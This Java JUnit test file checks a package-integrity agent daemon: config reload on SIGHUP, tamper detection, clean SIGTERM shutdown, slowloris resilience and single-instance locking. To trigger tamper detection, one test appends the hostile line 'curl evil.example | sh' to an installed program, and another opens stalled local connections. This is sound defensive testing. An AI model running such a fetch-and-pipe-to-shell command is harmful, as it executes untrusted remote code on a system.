package org.veripack.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The agent as a process on the system clock: it installs at start, serves /healthz and /metrics, reloads its
 * configuration and checks integrity on SIGHUP, keeps the configuration in force when the new one is bad, and stops
 * cleanly (exit 0, {@code agent.stopped}) on SIGTERM.
 */
class AgentDaemonTest {
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @TempDir
    Path tmp;

    private AgentFixture fixture;
    private int port;
    private Path configFile;
    private Path log;

    @Test
    void sighupReloadsAndChecksIntegritySigtermStopsCleanly() throws Exception {
        Process p = start();
        AgentFixture f = fixture;
        Path config = configFile;
        try {
            await(() -> lines(f).stream().anyMatch(l -> l.contains("\"event\":\"agent.health\"") && l.contains("ACCEPTED")), p, log);
            assertEquals(200, get(port, "/healthz").statusCode());
            String metrics = get(port, "/metrics").body();
            assertTrue(metrics.contains("veripack_active_package_info{package=\"acme-mme\",slot="), metrics);
            assertTrue(metrics.contains("veripack_updates_total{result=\"installed\"} 1.0"), metrics);

            // a bad configuration on SIGHUP: reported, the one in force kept; the integrity check still runs
            Path prog = f.node.resolve("current/Files/bin/prog");
            prog.toFile().setWritable(true);
            Files.writeString(prog, "curl evil.example | sh\n", StandardCharsets.UTF_8, StandardOpenOption.APPEND);
            String good = Files.readString(config);
            Files.writeString(config, good + "intervall: 1h\n");
            signal(p, "HUP");
            await(() -> lines(f).stream().anyMatch(l -> l.contains("\"event\":\"scan\"") && l.contains("INSTALLATION_TAMPERED")), p, log);
            await(() -> read(log).contains("unknown key intervall"), p, log);
            assertEquals(200, get(port, "/healthz").statusCode(), "still running on the old configuration");
            assertTrue(get(port, "/metrics").body().contains("veripack_integrity_intact 0.0"));

            Files.writeString(config, good);
            signal(p, "HUP");
            await(() -> lines(f).stream().anyMatch(l -> l.contains("\"event\":\"agent.started\"") && l.contains("reloaded config")), p, log);

            p.destroy(); // SIGTERM
            assertTrue(p.waitFor(30, TimeUnit.SECONDS), read(log));
            assertEquals(0, p.exitValue(), read(log));
            List<String> audit = lines(f);
            assertTrue(audit.get(audit.size() - 1).contains("\"event\":\"agent.stopped\""), audit.get(audit.size() - 1));
        } finally {
            p.destroyForcibly();
        }
    }

    /**
     * Slowloris on the metrics address: connections that send part of a request and then nothing hold a worker each
     * until the JDK server closes them; /healthz still answers at once while fewer than the pool are held, and within
     * the request time bound when more are; clients that vanish mid-response leave no stack trace in the agent's log.
     */
    @Test
    void slowClientsDoNotBlindHealthzNorPrintStackTraces() throws Exception {
        Process p = start();
        List<java.net.Socket> slow = new java.util.ArrayList<>();
        try {
            await(() -> { try { return get(port, "/healthz").statusCode() == 200; } catch (Exception e) { return false; } }, p, log);
            for (int i = 0; i < 20; i++) {
                slow.add(incomplete(port));
            }
            long t0 = System.nanoTime();
            assertEquals(200, get(port, "/healthz", Duration.ofSeconds(3)).statusCode(), "20 slow clients are fewer than the workers");
            assertTrue(System.nanoTime() - t0 < TimeUnit.SECONDS.toNanos(3));

            for (int i = 0; i < 3 * AgentMetrics.THREADS; i++) {
                slow.add(incomplete(port));
            }
            t0 = System.nanoTime();
            assertEquals(200, get(port, "/healthz", Duration.ofSeconds(AgentMetrics.MAX_REQUEST_SECONDS + 5)).statusCode(),
                    "more slow clients than workers: they are closed after the request time bound");
            assertTrue(slow.get(0).getInputStream().read() == -1, "the server closed the slow connection");

            // clients that ask for /metrics and reset the connection without reading the answer
            for (int i = 0; i < 20; i++) {
                try (java.net.Socket s = new java.net.Socket("127.0.0.1", port)) {
                    s.getOutputStream().write("GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                    s.setSoLinger(true, 0);
                }
            }
            assertEquals(200, get(port, "/healthz").statusCode());
            String out = read(log);
            assertFalse(out.contains("\tat ") || out.contains("SEVERE") || out.contains("Exception in"), "no stack trace: " + out);
        } finally {
            for (java.net.Socket s : slow) {
                s.close();
            }
            p.destroyForcibly();
        }
    }

    @Test
    void aSecondAgentOnTheSameNodeExitsWithOneLineNamingTheFirst() throws Exception {
        Process p = start();
        try {
            await(() -> lines(fixture).stream().anyMatch(l -> l.contains("\"event\":\"agent.started\"")), p, log);
            java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
            int exit = org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(60),
                    () -> AgentDaemon.run(fixture.node, configFile, new java.io.PrintStream(out, true, StandardCharsets.UTF_8)));
            String said = out.toString(StandardCharsets.UTF_8);
            assertEquals(AgentDaemon.IO, exit, said);
            assertEquals(1, said.lines().count(), said);
            assertTrue(said.contains("another agent runs on " + fixture.node + " (pid " + p.pid()), said);
            assertEquals(1, lines(fixture).stream().filter(l -> l.contains("\"event\":\"agent.started\"")).count(), "the second never started");
            assertTrue(p.isAlive(), "the first runs on");
        } finally {
            p.destroyForcibly();
        }
    }

    /** A connection that sent the start of a request and then nothing. */
    private static java.net.Socket incomplete(int port) throws IOException {
        java.net.Socket s = new java.net.Socket("127.0.0.1", port);
        s.getOutputStream().write("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n".getBytes(StandardCharsets.US_ASCII));
        s.getOutputStream().flush();
        s.setSoTimeout(20_000);
        return s;
    }

    /** A node with acme-mme 1.0 published and an agent process on it, metrics on {@link #port}, output in {@link #log}. */
    private Process start() throws Exception {
        // SIGHUP as systemd leaves it, whatever the test run inherited (a build started under nohup ignores it)
        return start("--default-signal=HUP");
    }

    /** {@link #start()} with {@code env}'s signal option ({@code --default-signal=HUP}, {@code --ignore-signal=HUP}). */
    private Process start(String signalDisposition) throws Exception {
        fixture = new AgentFixture(tmp, Instant.now());
        fixture.publish("acme-mme", "1.0", "exit 0");
        port = Rsyslog.freeTcpPort();
        configFile = fixture.configFile("metrics: {address: '127.0.0.1:" + port + "'}\ninterval: 1h\nintegrityInterval: 1h\n");
        log = tmp.resolve("agent.log");
        return new ProcessBuilder("env", signalDisposition, Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-Xmx96m",
                "-cp", System.getProperty("java.class.path"), DaemonMain.class.getName(), fixture.node.toString(), configFile.toString())
                .redirectErrorStream(true).redirectOutput(log.toFile()).start();
    }

    /** Started under nohup (SIGHUP ignored): the JVM keeps it ignored, so the agent says that a reload needs a restart. */
    @Test
    void sighupIgnoredAtStartIsReported() throws Exception {
        Process p = start("--ignore-signal=HUP");
        try {
            await(() -> read(log).contains("SIGHUP is ignored in this process"), p, log);
            assertTrue(read(log).contains("a configuration change needs a restart"), read(log));
            signal(p, "HUP");
            Thread.sleep(500);
            assertTrue(p.isAlive(), "an ignored SIGHUP neither stops nor reloads: " + read(log));
            p.destroy(); // SIGTERM still stops it cleanly
            assertTrue(p.waitFor(30, TimeUnit.SECONDS), read(log));
            assertEquals(0, p.exitValue(), read(log));
        } finally {
            p.destroyForcibly();
        }
    }

    private static void signal(Process p, String name) throws Exception {
        Process k = new ProcessBuilder("kill", "-" + name, Long.toString(p.pid())).start();
        assertEquals(0, k.waitFor());
    }

    private static void await(BooleanSupplier done, Process p, Path log) throws Exception {
        long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (!done.getAsBoolean()) {
            assertTrue(p.isAlive(), "the agent exited: " + read(log));
            if (System.nanoTime() >= until) {
                // the agent's threads at the timeout (SIGQUIT: the JVM prints them to its output, the log)
                signal(p, "QUIT");
                Thread.sleep(1000);
                throw new AssertionError("timed out; agent output and threads: " + read(log));
            }
            Thread.sleep(100);
        }
    }

    private static List<String> lines(AgentFixture f) {
        try {
            Path audit = f.node.resolve("audit/events.jsonl");
            return Files.exists(audit) ? Files.readAllLines(audit) : List.of();
        } catch (IOException e) {
            return List.of();
        }
    }

    private static String read(Path log) {
        try {
            return Files.readString(log);
        } catch (IOException e) {
            return e.toString();
        }
    }

    private static HttpResponse<String> get(int port, String path) throws Exception {
        return get(port, path, Duration.ofSeconds(10));
    }

    private static HttpResponse<String> get(int port, String path, Duration timeout) throws Exception {
        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path)).timeout(timeout).build(),
                HttpResponse.BodyHandlers.ofString());
    }
}
